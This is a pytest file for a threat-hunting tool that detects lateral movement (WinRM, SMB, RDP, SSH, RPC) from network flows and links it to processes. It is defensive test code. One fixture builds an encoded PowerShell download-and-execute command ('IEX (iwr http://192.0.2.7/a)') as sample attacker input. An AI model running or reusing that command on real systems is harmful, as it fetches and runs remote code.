"""What network sensors alone saw: who went to whom by which way, and what was called afterwards; by hand."""

from __future__ import annotations

import base64
from types import SimpleNamespace
from typing import Any

import polars as pl
import pytest

from graphhunt.incidents.files import Arrivals
from graphhunt.incidents.find import Options, find
from graphhunt.incidents.lead import Lead
from graphhunt.incidents.leads.network import network_leads
from graphhunt.incidents.links import links_of
from graphhunt.incidents.networks import Networks
from graphhunt.incidents.score import score

from .made import MINUTE, commands, flow, process, tables

OUTSIDE = SimpleNamespace(outside={"203.0.113.9": ("named",)}, flows_only=False)


def kinds(*flows: dict[str, Any], **more: Any) -> list[str]:
    return [lead.kind for lead in network_leads(tables(FLOWED_TO=list(flows), **more), OUTSIDE)]  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("port", "kind"),
    [(5985, "network_winrm"), (5986, "network_winrm"), (445, "network_smb"), (3389, "network_rdp"),
     (22, "network_ssh")],
)  # fmt: skip
def test_each_way_by_its_port(port: int, kind: str) -> None:
    (lead,) = network_leads(tables(FLOWED_TO=[flow("10.0.0.1", "10.0.0.2", port)]), OUTSIDE)  # type: ignore[arg-type]
    assert (lead.kind, lead.machine, lead.source, lead.account) == (kind, "10.0.0.2", "10.0.0.1", None)
    assert lead.facts["technique"].startswith("T1021.")


def test_calls_of_procedures_need_a_high_port_beside() -> None:
    asked = flow("10.0.0.1", "10.0.0.2", 135)
    assert kinds(asked) == []
    assert kinds(asked, flow("10.0.0.1", "10.0.0.2", 50_001)) == ["network_rpc"]
    assert kinds(asked, flow("10.0.0.1", "10.0.0.2", 50_001, time=9)) == []


def test_what_nobody_answered_is_no_hop() -> None:
    assert kinds(flow("10.0.0.1", "10.0.0.2", 445, bytes_in=0)) == []
    assert kinds(flow("10.0.0.1", "10.0.0.2", 445, bytes_in=None)) == []
    assert kinds(flow("10.0.0.1", "203.0.113.9", 22)) == []


def test_a_server_that_many_go_to_is_no_lead() -> None:
    assert kinds(*(flow(f"10.0.0.{n}", "10.0.0.9", 445) for n in range(1, 4))) == ["network_smb"] * 3
    assert kinds(*(flow(f"10.0.0.{n}", "10.0.0.9", 445) for n in range(1, 5))) == []


def test_a_large_file_was_brought() -> None:
    assert kinds(flow("10.0.0.1", "10.0.0.2", 445, bytes_out=1_000_000)) == ["network_copy"]


def test_where_the_machine_itself_tells_of_the_hop_the_sensor_adds_nothing() -> None:
    hop = {"id": "h", "from_id": "a", "to_id": "b", "source_ip": "10.0.0.1", "start": MINUTE // 2, "certainty": 0.9,
           "user_kind": "person"}  # fmt: skip
    had = [{"id": "x", "from_id": "b", "to_id": "10.0.0.2"}]
    for witnesses, expected in ((["logon"], []), (["ticket_flow_sensor"], ["network_winrm"])):
        known = {"REMOTE_LOGON": [hop | {"witnesses": witnesses}], "HAD_IP": had}
        assert kinds(flow("10.0.0.1", "10.0.0.2", 5985), **known) == expected


def test_what_the_target_calls_after_the_source_did() -> None:
    """One minute the source calls, five minutes later it goes on, ten minutes later the target calls there, too."""
    hop = flow("10.0.0.1", "10.0.0.2", 5985, time=5)
    first, later = flow("10.0.0.1", "203.0.113.9", 443, time=1), flow("10.0.0.2", "203.0.113.9", 443, time=10)
    assert kinds(first, hop, later) == ["network_winrm", "network_followed"]
    assert kinds(first, hop, flow("10.0.0.2", "203.0.113.9", 443, time=3)) == ["network_winrm"]
    assert kinds(hop, later) == ["network_winrm"]
    others = [flow(f"10.0.0.{n}", "203.0.113.9", 443) for n in (3, 4)]
    assert kinds(first, hop, later, *others) == ["network_winrm"]


def lead(kind: str) -> Lead:
    return Lead(kind, "host|m", 0, "m", None, ("e",), {})


def test_ways_alone_count_six_nats_at_most() -> None:
    """All five ways weigh 9; what else was seen counts beside them."""
    ways = [lead(f"network_{way}") for way in ("winrm", "copy", "rpc", "rdp", "ssh")]
    assert score({"host|m": ways}).total == pytest.approx(-9 + 6)
    assert score({"host|m": ways[:2]}).total == pytest.approx(-9 + 3 + 2)
    assert score({"host|m": [*ways, lead("network_beacon")]}).total == pytest.approx(-9 + 6 + 3)


def test_a_hop_that_a_sensor_saw_belongs_to_the_interpreter_that_opened_it() -> None:
    """Where machines log, too; not to a browser or to what talked there at another time or port."""
    calls = [("powershell.exe", 5985, 0), ("chrome.exe", 5985, 0), ("cmd.exe", 5985, 9), ("python.exe", 443, 0)]
    made = [
        {"id": f"c {name}", "from_id": f"m|{name}", "to_id": "10.0.0.2", "start": time * MINUTE, "end": time * MINUTE,
         "remote_port": port, "direction": "outgoing", "machine_id": "m", "evidence": ["e"]}
        for name, port, time in calls
    ]  # fmt: skip
    known = tables(
        Process=[process(name) for name, _, _ in calls], CONNECTED=made, FLOWED_TO=[flow("10.0.0.1", "10.0.0.2", 5985)]
    )
    links = links_of(known, Networks(known), Arrivals(known))
    sensed = links.filter(pl.col("kind") == "machine")
    assert sensed.select("a", "b").rows() == [("process|m|powershell.exe", "host|10.0.0.2")]


def test_where_one_end_logs_the_hop_joins_what_its_process_did() -> None:
    """A mixed estate: 10.0.0.1 is m, which logs; 10.0.0.2 logs nothing, and a sensor between them saw the hop."""
    token = base64.b64encode("IEX (iwr http://192.0.2.7/a)".encode("utf-16-le")).decode()
    shell = process("powershell.exe", f"powershell -enc {token}")
    opened = {"id": "c", "from_id": shell["id"], "to_id": "10.0.0.2", "start": 0, "end": 0, "remote_port": 5985,
              "direction": "outgoing", "machine_id": "m", "evidence": ["e c"]}  # fmt: skip
    known = commands(
        shell, CONNECTED=[opened], FLOWED_TO=[flow("10.0.0.1", "10.0.0.2", 5985)], Machine=[{"id": "m", "name": "m"}],
        HAD_IP=[{"id": "h", "from_id": "m", "to_id": "10.0.0.1"}],
    )  # fmt: skip
    (incident,) = find(known, Options()).incidents
    told = incident.story(1)
    assert told["kinds"] == {"encoded_command": 1, "network_winrm": 1}
    assert (told["class"], told["machines"], told["unknown_machines"]) == ("E", ["m"], ["10.0.0.2"])
    assert (told["techniques"], told["consistent_with"]) == ([], ["T1021.006"])
    assert {step["machine"]: step["sensed"] for step in told["steps"]} == {"m": False, "10.0.0.2": True}
